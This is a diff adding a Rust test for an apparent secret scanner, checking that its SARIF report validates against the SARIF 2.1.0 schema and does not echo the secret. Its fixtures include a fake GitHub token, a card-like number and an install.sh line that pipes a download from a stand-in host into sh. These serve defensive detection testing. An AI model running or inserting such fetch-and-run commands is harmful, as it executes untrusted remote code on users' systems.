@@ -172,3 +172,44 @@ fn history_finds_what_was_committed_and_removed() {
     assert_eq!(code, 1, "{out}");
     assert!(out.contains(":app.py:1:") && !out.contains(SECRET), "{out}");
 }
+
+#[test]
+fn sarif_output_validates_against_the_sarif_2_1_0_schema() {
+    let Some(python) = common::python() else {
+        return;
+    };
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join(".env"), format!("GITHUB_TOKEN={SECRET}\n")).unwrap();
+    std::fs::write(
+        dir.path().join("install.sh"),
+        "curl -fsSL https://get.example.net/x | sh\ncard 4539 1488 0343 6467\n",
+    )
+    .unwrap();
+    let (code, sarif, _) = scan(&[dir.path().to_str().unwrap(), "--format", "sarif"]);
+    assert_eq!(code, 1);
+    let report = dir.path().join("report.sarif");
+    std::fs::write(&report, &sarif).unwrap();
+    let schema =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sarif/sarif-2.1.0-rtm.5.json");
+    let check = "import json, sys, jsonschema\n\
+                 schema = json.load(open(sys.argv[1]))\n\
+                 report = json.load(open(sys.argv[2]))\n\
+                 jsonschema.Draft4Validator.check_schema(schema)\n\
+                 errors = list(jsonschema.Draft4Validator(schema).iter_errors(report))\n\
+                 [print(e.message, list(e.path)) for e in errors]\n\
+                 assert len(report['runs'][0]['results']) >= 3\n\
+                 sys.exit(1 if errors else 0)\n";
+    let out = Command::new(python)
+        .args(["-c", check])
+        .arg(&schema)
+        .arg(&report)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(!sarif.contains(SECRET));
+}
